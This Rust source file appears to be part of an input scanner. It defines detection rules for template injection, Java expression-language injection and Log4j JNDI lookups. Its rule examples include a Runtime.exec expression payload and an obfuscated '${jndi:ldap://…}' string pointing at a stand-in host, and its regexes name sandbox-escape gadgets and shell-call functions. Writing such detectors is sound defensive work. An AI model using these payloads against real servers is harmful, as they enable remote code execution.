//! Template and expression languages, and the lookups of logging libraries.
//!
//! `{{name}}` and `${name}` are placeholders people send honestly. What counts is an expression: arithmetic, calls,
//! the object model of a language, a statement.

use std::borrow::Cow;
use std::sync::OnceLock;

use regex::bytes::Regex;

use super::{Confidence, Family, Hit, Rule, RuleInfo, Severity, Subject, analyser, certain, likely};
use crate::engine::compile;

pub(super) static RULES: &[Rule] = &[
    Rule {
        info: RuleInfo {
            id: "template-expression",
            family: Family::Template,
            severity: Severity::Critical,
            cwe: 1336,
            message: "an expression for a template engine rather than a placeholder",
            why: "A template built from a value evaluates what is between its marks. Arithmetic is how attackers ask whether it does; object models are how they get out. A plain `{{name}}` stays silent.",
            example: "{{7*7}}",
        },
        patterns: &[
            certain(&["{{"], r"\{\{[-!&=~^>#]?\s*[({\[]*\s*(?:-?\d+\s*[*+/%-]\s*['\x22]?\d+|'\d+'\s*\*\s*\d+|\x22\d+\x22\s*\*\s*\d+)"),
            likely(&["${", "#{", "*{", "@{", "~{", "$(", "{7", "[[", "{{", "@("], r"[$#*@~]\{\{?\s*-?\d+\s*[*+/-]\s*\d+\s*\}|\[\[\s*\$?\{?\s*\d+\s*\*\s*\d+|^\{\d+\*\d+\}$|@\(\s*\d+\s*[*+]\s*\d+\s*\)|#\{\s*\w+(?:\.\w+){0,8}\s*\(|\$\{\s*['\x22(]?\s*\d+\s*['\x22]?\s*\*"),
            certain(&["{{", "{%"], r"\{[{%][^}]{0,300}(?:__(?:class|mro|base|bases|subclasses|globals|builtins|init|import|getitem|self|dict)__|\bconstructor\b|\bcycler\b|\blipsum\b|\bjoiner\b|\bget_flashed_messages\b|\burl_for\b|\bself\._|\bself\.__|_self\.env|\|\s*attr\s*\(|\[['\x22]\\?x?_|\brequest\s*[.|\[]\s*['\x22]?(?:application|args|environ|__)|\bconfig\s*(?:\.(?:items|from|__)|\[|\}|\|)|\bapp\.request|\bos\.popen|popen\s*\(|\|\s*(?:filter|map|reduce|sort)\s*\(\s*['\x22](?:system|exec|passthru|phpinfo)|\bsystem\s*\(|\.getRuntime|\bexec\s*\(|getClass\s*\(|\.class\b|\brange\.constructor|\brequire\s*\(|\bprocess\.|\bphpinfo\b|#with\b[^}]*\bas\b|lookup\s+\(|\$on\.)"),
            // Formats of C and Python that read or write where they shouldn't.
            likely(&["%s", "%x", "%n", "%p", "%d", "%08x", "$x", "$n", "$s"], r"(?:%(?:\d+\$|0?\d{2,3}|\.\d+)?l{0,2}[sxpndeofg][.,|:_-]?){4,}|%\d{1,3}\$[0-9]*l{0,2}h{0,2}n|(?:%0?8x[.\s-]?){2,}|(?:%n){2,}|^%\d{6,}[sdx]$"),
            likely(&["{{"], r"\{\{\s*(?:config|self|settings|debug|request|session|g|dump\([^)]*\)|app|_self|this|@root|[\w.]+\s*\|\s*(?:safe|e|join|list|tojson|raw|dump))\s*\}\}|\{\{\s*(?:\[\]|''|\x22\x22|\(\)|\{\})\s*[.\[|]|\{\{\s*[\w.]{0,60}\([^}]{0,200}\)\s*\}\}|\{\{\s*#(?:with|each)\s+['\x22]|\{\{=\s*\S|\{\{\s*['\x22][^}'\x22]{0,60}['\x22]\s*\.\s*\w+\s*\(|\$\{\{<"),
            // A placeholder that is only a dotted name is a mail's; these names are the application's own secrets.
            likely(&["{{", "${", "#{"], r"[{$#]\{\s*(?:settings|config|self|app|request|session|g|env|environ|process|os|globals|current_app|this|@root|ctx|context)(?:\.\w+){0,4}\s*(?:\.|\[\s*['\x22])\w*(?:secret|api_?key|access_?key|private_?key|token|passw(?:or)?d|credential|database_ur[il])"),
            likely(&["${@", "#{@", "{{@"], r"[$#{]\{\s*@\w+\s*\("),
            likely(&["{%", "{#"], r"\{%-?\s*(?:import|include|extends|csrf_token|get_admin_log|set|block|macro|debug|do|print|call|filter|with|autoescape|from|load|raw|for\s+\w+\s+in\s+[\w.()\[\]'\x22]+\s*-?%\}|if\s+[^%]*(?:__|\(|request|config))\b?[^%]{0,300}"),
            // `<%= name %>` is a placeholder, too.
            likely(&["<%"], r"<%[@!#]\s*\S.{0,400}%>|<%[=-]?[\w.\s]*[^\w.\s%=-].{0,400}%>|<%[=-]\s*[\w.]*[^\w.\s%]"),
            likely(&["${", "#{", "@{", "{'", "{\""], r"[$#@*]\{\s*=?\s*['\x22][^'\x22{}]{0,80}['\x22]\s*\.\s*\w+|[{]['\x22][^'\x22{}]{0,60}['\x22]\s*\.\s*(?:replace|toString|getClass|class|concat)\s*\(|[$#]\{\s*\w+\.newInstance\s*\(|[$#]\{\s*(?:session|request|application|page)Scope\s*[.\[]\s*\w+\s*[(\[]|\$\{=|[$#]\{[^}]{0,80}\bnew\s+(?:File|URL|java\.)\b"),
            likely(&["|attr(", "|attr (", "| attr(", "[\"__", "['__", "[\"\\x5f", "['\\x5f"], r"\w\s*\|\s*attr\s*\(\s*['\x22\[\w]|\w\s*\[\s*['\x22](?:__|\\x5f\\x5f)\w+(?:__|\\x5f\\x5f)['\x22]\s*\]"),
            likely(&["call_user_func", "passthru", "shell_exec", "phpinfo", "ini_set", "_context"], r"\{[{%].{0,300}?[|~'\x22]\s*(?:call_user_func|passthru|shell_exec|phpinfo|ini_set|_context)\b"),
            likely(&["{var ", "{php ", "{="], r"\{var \s*\$\w+\s*=|\{php \s*\w|\{=\s*[\w$]+\s*[(*+]"),
            likely(&["{!!"], r"\{!!\s*(?:-?\d+\s*[*+/-]|[\w\\:$>-]+\s*\()"),
            likely(&["this."], r"\{\{[#&]?\s*this\.(?:push|pop|shift|split|concat|slice|constructor)\b"),
            likely(&["__::"], r"__::\s*\.?\w"),
        ],
    },
    Rule {
        info: RuleInfo {
            id: "template-java",
            family: Family::Template,
            severity: Severity::Critical,
            cwe: 917,
            message: "an expression of a Java template or expression language that reaches classes or programs",
            why: "Spring, OGNL, Freemarker, Velocity and Thymeleaf evaluate `${…}`, `#{…}`, `%{…}` with access to every class.",
            example: "${T(java.lang.Runtime).getRuntime().exec('id')}",
        },
        patterns: &[
            certain(&["t(java", "t (java", "getruntime", "java.lang.", "processbuilder", "freemarker.template", "_memberaccess", "#context", "javax.script", "getclass()", "classloader", "ognl."], r"\bT\s*\(\s*java\.|getRuntime\s*\(\s*\)|[$#%*@({\x22'\s=]\{?[^}]{0,80}\bjava\.(?:lang|io|net|util)\.(?:Runtime|Process\w*|System|Class|File|URL|Scanner|reflect|Thread)\b|freemarker\.template\.utility|_memberAccess|#context\s*[.\[]|new\s+javax\.script|ScriptEngineManager|\.class\.forName|getClass\(\)\s*\.\s*(?:forName|getClassLoader|getMethod|get)|class\.(?:module\.)?classLoader|ognl\.OgnlContext|ProcessBuilder\s*\(").prose(),
            likely(&["<#assign", "?new()", "<#include", "<@", "?api", "#set", "$class.", "#include(", "#evaluate", "#parse("], r"<#(?:assign|include|import|list|if|function|macro)\s|\?new\s*\(\s*\)|\?api\.|#set\s*\(\s*\$\w+\s*=|\$class\.inspect|#(?:evaluate|parse|include)\s*\(\s*['\x22$]"),
            likely(&["%{", "#{", "*{", "__${", "${"], r"%\{\s*[(#@'\x22].{0,200}[)'\x22]|[*%]\{\s*\d+\s*[*+]|__\$\{.{1,200}\}__|#\{\s*(?:(?:session|request|application|system)\b(?:\.\w+){0,8}\s*[\[(+*/]|facesContext|`|IO\.|File\.|Dir\.|exec|Kernel|%x)|[$#]\{\s*(?:''|\x22\x22|\(\)|\[\]|self|class|pageContext|@)\s*[.\[(][^}]{0,200}|\$\{\s*(?:this|request|session|application|param|header|initParam)\b(?:\.\w+){0,8}\s*[\[(+*/]|\$\{\s*new\s+\w|\$\{[^}]{0,80}(?:\.exec\(|\?new|!\w+\.|\.getClass|\bSystem\.)"),
            likely(&["{php", "{$smarty", "{system", "{literal", "{math", "{self::"], r"\{(?:php\}|\$smarty\.(?:version|template|server|env|const)|system\s*\(|self::|math\s+equation)|\{\$\w+(?:->|::)\w+\("),
        ],
    },
    Rule {
        info: RuleInfo {
            id: "log-lookup",
            family: Family::Template,
            severity: Severity::Critical,
            cwe: 917,
            message: "a lookup that a logging library resolves, up to loading code from elsewhere",
            why: "Log4j 2 before 2.15 resolves `${jndi:…}` in every logged value. Disguises nest other lookups (`${${lower:j}ndi:…}`); those are resolved here the same way.",
            example: "${${lower:j}ndi:ldap://203.0.113.5/a}",
        },
        patterns: &[
            certain(&["${jndi", "jndi:"], r"\$\{\s*jndi\s*:|\$\{.{0,200}jndi:(?:ldaps?|rmi|dns|iiop|nis|corba|http|nds)"),
            analyser(&["${"], nested_lookup),
            likely(&["${env:", "${sys:", "${java:", "${ctx:", "${main:", "${bundle:", "${base64:", "${script:", "${url:", "${dns:", "${docker:", "${k8s:"], r"\$\{(?:env:(?:aws_|path\b|home\b|user\b|secret|[\w]*(?:key|token|pass))|sys:|java:(?:os|version|vm|runtime|hw)|ctx:|main:|bundle:|base64:|script:|url:|dns:|docker:|k8s:)"),
        ],
    },
];

/// Resolves the lookups that stand for themselves (`${lower:j}`, `${::-j}`, `${env:X:-j}`) and looks for JNDI again.
fn nested_lookup(subject: &Subject<'_>) -> Option<Hit> {
    static LOOKUP: OnceLock<(Regex, Regex)> = OnceLock::new();
    let (inner, jndi) = LOOKUP.get_or_init(|| {
        (
            compile(r"\$\{(?:lower:|upper:|date:|[^${}]*?:-)'?([^${}']*)'?\}"),
            compile(r"\$\{\s*j\s*n\s*d\s*i\s*:|\$\{[^}]{0,40}(?:ldaps?|rmi|dns|iiop)://"),
        )
    });
    let mut text = Cow::Borrowed(subject.text.as_bytes());
    // Disguises nest a few deep; each round is one linear pass.
    for _ in 0..6 {
        let next = inner.replace_all(&text, &b"$1"[..]).into_owned();
        if next == *text {
            break;
        }
        text = Cow::Owned(next);
    }
    jndi.is_match(&text).then(|| {
        let start = subject.text.find("${").unwrap_or(0);
        Hit { range: start..subject.text.len(), confidence: Confidence::Certain }
    })
}
